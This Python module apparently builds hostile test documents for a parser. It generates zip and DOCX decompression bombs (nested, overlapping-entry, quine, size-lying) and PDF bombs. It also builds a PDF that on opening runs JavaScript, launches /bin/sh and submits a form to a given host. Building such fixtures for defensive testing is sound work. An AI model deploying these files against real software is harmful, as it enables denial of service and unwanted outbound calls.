"""Documents that are made to hurt whoever opens them [S12], made here from nothing, the same in each run."""
import io
import struct
import zipfile
import zlib

import documents

LOCAL, CENTRAL, END = b"PK\x03\x04", b"PK\x01\x02", b"PK\x05\x06"


def local_header(name, packed, unpacked, crc, method=8):
    return LOCAL + struct.pack("<HHHHHLLLHH", 20, 0, method, 0, 0, crc, packed, unpacked, len(name), 0) + name


def central_record(name, packed, unpacked, crc, offset, method=8):
    return CENTRAL + struct.pack("<HHHHHHLLLHHHHHLL", 20, 20, 0, method, 0, 0, crc, packed, unpacked, len(name), 0, 0, 0, 0, 0, offset) + name


def end_record(entries, size, offset):
    return END + struct.pack("<HHHHLLH", 0, 0, entries, entries, size, offset, 0)


def deflated(data):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def nested(levels=5, width=16):
    """Like 42.zip: archives in archives, at the bottom of each a file of zeros."""
    content, name = bytes(1 << 20), "zeros.xml"
    for level in range(levels):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(width):
                archive.writestr(zipfile.ZipInfo(f"{level}-{number}-{name}"), content, zipfile.ZIP_DEFLATED)
        content, name = out.getvalue(), "lib.zip"
    return content


def nested_docx(name):
    return documents.docx(more=[(name, nested())])


def overlapping(files, kernel):
    """After David Fifield (2019): each entry quotes the next one's local header in a stored block and goes on into its data."""
    names = [b"[Content_Types].xml", b"word/document.xml"] + [b"%d" % number for number in range(files - 2)]
    data, plain, entries = deflated(bytes(kernel)), bytes(kernel), []
    tail = b""
    for name in reversed(names):
        header = local_header(name, len(data), len(plain), zlib.crc32(plain))
        entries.append((name, len(data), len(plain), zlib.crc32(plain), len(header) + len(data)))
        tail = header + data
        data = struct.pack("<BHH", 0, len(header), 0xFFFF ^ len(header)) + tail
        plain = header + plain
    directory = b"".join(central_record(name, packed, unpacked, crc, len(tail) - from_end)
                         for name, packed, unpacked, crc, from_end in reversed(entries))
    return tail + directory + end_record(files, len(directory), len(tail))


def many_entries(count, said):
    """So many records in the directory, all of one local header; the end record says another number."""
    text = documents.DOCUMENT.format(prolog="", body=documents.paragraph("x")).encode()
    entries, body = b"", b""
    for name, content in ((b"[Content_Types].xml", documents.CONTENT_TYPES.encode()), (b"word/document.xml", text)):
        entries += central_record(name, len(content), len(content), zlib.crc32(content), len(body), 0)
        body += local_header(name, len(content), len(content), zlib.crc32(content), 0) + content
    empty = local_header(b"e", 0, 0, 0, 0)
    entries += central_record(b"e", 0, 0, 0, len(body), 0) * (count - 2)
    body += empty
    return body + entries + end_record(said, len(entries), len(body))


def with_entry(**attributes):
    """A good document and one more entry with these attributes of ZipInfo."""
    out = io.BytesIO(documents.docx())
    with zipfile.ZipFile(out, "a") as archive:
        info = zipfile.ZipInfo(attributes.pop("filename", "word/extra.xml"))
        for name, value in attributes.items():
            setattr(info, name, value)
        archive.writestr(info, "/etc/passwd")
    return out.getvalue()


def replaced(archive, name, content):
    """The archive with other content in one entry."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            new.writestr(entry.filename, content if entry.filename == name else old.read(entry))
    return out.getvalue()


def lying(packed_plain=1 << 20, said=100):
    """word/document.xml unpacks to more than it says."""
    good = documents.docx(documents.paragraph("word " * (packed_plain // 5)))
    size = struct.pack("<L", zipfile.ZipFile(io.BytesIO(good)).getinfo("word/document.xml").file_size)
    return good.replace(size, struct.pack("<L", said))


def _again(count, last=False):
    """A DEFLATE program of exactly five bytes that repeats the last `count` of them: 20 as twice 10, 258 at once."""
    if count == 20:  # symbol 264 (10 bytes), distance 20 = 17 and three bits
        match = ("0001000" + "01000" + "110") * 2
        bits = "010" + match + "0000000"
    else:  # an empty block, then symbol 285 (258 bytes), distance 258 = 257 and seven bits
        bits = "010" + "0000000" + ("1" if last else "0") + "10" + "11000101" + "10000" + "1000000" + "0000000"
    assert len(bits) == 40
    return bytes(int(bits[at:at + 8][::-1], 2) for at in range(0, 40, 8))


def quine():
    """A document whose word/document.xml is the document itself, after Russ Cox (2010): a DEFLATE program of literals and repeats."""
    name, types = b"word/document.xml", b"[Content_Types].xml"

    def words(count):
        return struct.pack("<BHH", 0, count, 0xFFFF ^ count)

    def build(crc, size, packed):
        filler = 253 - 60 - len(name) - len(types)  # so that what is repeated has 258 bytes
        first = bytearray(local_header(types, 0, 0, 0, 0))
        first[28:30] = struct.pack("<H", filler)
        prefix = bytes(first) + bytes(filler) + local_header(name, packed, size, crc)
        directory = central_record(types, 0, 0, 0, 0, 0) + central_record(name, packed, size, crc, len(first) + filler)
        comment = 253 - len(directory) - 22
        suffix = directory + end_record(2, len(directory), len(prefix) + packed)[:-2] + struct.pack("<H", comment) + bytes(comment)
        r, big, end = _again(20), _again(258), _again(258, last=True)
        program = (words(258) + prefix + words(258) + big + words(5) + big + words(5) * 2 + words(20) + big + words(5) * 2 + words(20) + r +
                   (words(20) + r) * 4 + words(0) * 2 + words(258) + r + words(0) * 2 + words(258) + end + suffix + end)
        return prefix + program + suffix, len(program)

    whole, packed = build(0, 0, 0)
    # CRC-32 is affine: the sum that the file names inside itself solves 32 linear equations.
    base, answer, pivots = zlib.crc32(build(0, len(whole), packed)[0]), 0, []
    for bit in range(32):
        value, source = zlib.crc32(build(1 << bit, len(whole), packed)[0]) ^ base ^ (1 << bit), 1 << bit
        for other, from_bits in pivots:
            if value ^ other < value:
                value, source = value ^ other, source ^ from_bits
        if value:
            pivots.append((value, source))
            pivots.sort(reverse=True)
    for value, from_bits in pivots:
        if base ^ value < base:
            base, answer = base ^ value, answer ^ from_bits
    assert base == 0
    return build(answer, len(whole), packed)[0]


def pdf(*objects, trailer=b""):
    """Objects 1… (1 is the catalog), with a table of references."""
    out, offsets = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return out + b"trailer<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref)


def stream(data, dictionary=b""):
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (dictionary, len(data), data)


CATALOG, PAGES = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>%s>>"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
HELLO = stream(b"BT /F1 12 Tf 20 100 Td (A page of the brochure) Tj ET")


def repeated(piece, count):
    """A zlib stream of count × piece, packed without ever being whole."""
    packer = zlib.compressobj(9)
    block = piece * (1 << 20)
    return b"".join(packer.compress(block) for _ in range(count * len(piece) // len(block) or 1)) + packer.flush()


def inflating_pdf(piece, count):
    twice = zlib.compress(repeated(piece, count), 9)
    return pdf(CATALOG, PAGES, PAGE % b"", stream(twice, b"/Filter[/FlateDecode/FlateDecode]"), FONT)


def deep_pdf(levels):
    """A page tree of so many levels."""
    first = 6
    tree = [b"<</Type/Pages/Parent %d 0 R/Kids[%d 0 R]/Count 1>>" % (max(2, first + n - 1), first + n + 1) for n in range(levels)]
    return pdf(CATALOG, b"<</Type/Pages/Kids[6 0 R]/Count 1>>", b"null", HELLO, FONT, *tree,
               b"<</Type/Page/Parent %d 0 R/Contents 4 0 R/MediaBox[0 0 9 9]/Resources<</Font<</F1 5 0 R>>>>>>" % (first + levels - 1))


def active_pdf(url):
    """JavaScript, a launch, a submitted form, an embedded file and an external stream, all at opening."""
    return pdf(b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R/AA<</WC 7 0 R>>/Names<</EmbeddedFiles<</Names[(secret.txt) 8 0 R]>>>>>>", PAGES,
               PAGE % b"/Annots[10 0 R]", HELLO, FONT, b"<</S/JavaScript/JS(app.launchURL('%s/js'))>>" % url,
               b"<</S/Launch/F(/bin/sh)/Next<</S/SubmitForm/F(%s/form)>>>>" % url,
               b"<</Type/Filespec/F(secret.txt)/EF<</F 9 0 R>>>>", stream(b"EMBEDDED-WORDS", b"/Type/EmbeddedFile"),
               b"<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/URI/URI(%s/uri)>>>>" % url)
